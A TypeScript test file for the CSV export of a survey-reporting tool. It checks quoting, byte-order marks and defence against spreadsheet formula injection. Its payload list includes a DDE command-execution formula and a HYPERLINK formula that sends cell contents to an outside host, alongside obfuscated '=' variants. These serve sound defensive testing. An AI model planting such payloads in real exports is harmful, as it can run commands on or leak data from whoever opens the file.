import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { Cell, TableBlock } from '../../src/core/reply.ts'
import { toCsv } from '../../src/report/csv.ts'
import { headlineBlock } from '../../src/report/headline.ts'
import { recommendations } from '../metrics/samples.ts'
import { nps, quote, report, wording } from './replies.ts'

function table(rows: readonly (readonly Cell[])[]): TableBlock {
  return {
    type: 'table',
    columns: [
      { key: 'store', label: 'Store', format: 'text' },
      { key: 'nps', label: 'NPS', format: 'points' },
    ],
    rows,
  }
}

const read = (csv: string): string[][] => parse(csv, { relax_column_count: true })

/** Payloads that spreadsheets run, bare and behind what they skip. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("http://example.com?x="&A1,"click")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '\u0001=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '"=1+1"',
  '-5',
]

describe('CSV', () => {
  test('quotes text, leaves numbers bare and ends lines as RFC 4180 has it', () => {
    const csv = toCsv(
      report([
        table([
          ['Centre "A", north', -35.89743589743589],
          ['Kiosk', null],
        ]),
      ]),
    )
    expect(csv).toBe('"Store","NPS"\r\n"Centre ""A"", north",-35.8974358974\r\n"Kiosk",\r\n')
  })

  test('begins with a byte-order mark where Excel is to read it', () => {
    const csv = toCsv(report([table([['Орталық', 1]])]), { bom: true })
    expect(csv.startsWith('\uFEFF"Store"')).toBe(true)
    expect(read(csv.slice(1))[1]).toEqual(['Орталық', '1'])
  })

  test.each(FORMULAS)('T11: does not hand %j to a spreadsheet', (payload) => {
    const [, row] = read(toCsv(report([table([[payload, -1]])])))
    expect(row?.[0]).not.toMatch(/^[\s\p{C}]*[=+\-@＝＋－＠]/u)
    expect(row?.[1]).toBe('-1')
  })

  test('T11: never begins a cell of text like a formula, and keeps the words', () => {
    const text = fc.string({ unit: 'binary', maxLength: 30 })
    fc.assert(
      fc.property(text, (words) => {
        const [, row] = read(toCsv(report([table([[words, 1]])])))
        expect(row?.[0] ?? '').not.toMatch(/^[\s\p{C}]*[=+\-@＝＋－＠]/u)
        if (/^[a-zа-я][a-zа-я ]*$/u.test(words)) expect(row?.[0]).toBe(words)
      }),
      { numRuns: 500 },
    )
  })

  test('of a reply without a table is its quotes, else its values', () => {
    const quotes = report([{ type: 'quotes', quotes: [quote({ text: '=bad\n"line"' })] }])
    expect(read(toCsv(quotes))[1]).toEqual([
      'F-7',
      '2026-11-12',
      'App',
      '9',
      'positive',
      '\'=bad\n"line"',
    ])
    const values = report([
      headlineBlock(wording('en'), nps.measure(recommendations(8, 9, 22)), 'W46'),
    ])
    const rows = read(toCsv(values))
    expect(rows[0]).toEqual(['Key', 'Name', 'Value', 'From', 'To', 'Answers', 'Unit'])
    expect(rows[1]?.slice(0, 3)).toEqual(['nps', 'NPS', '-35.8974358974'])
  })
})
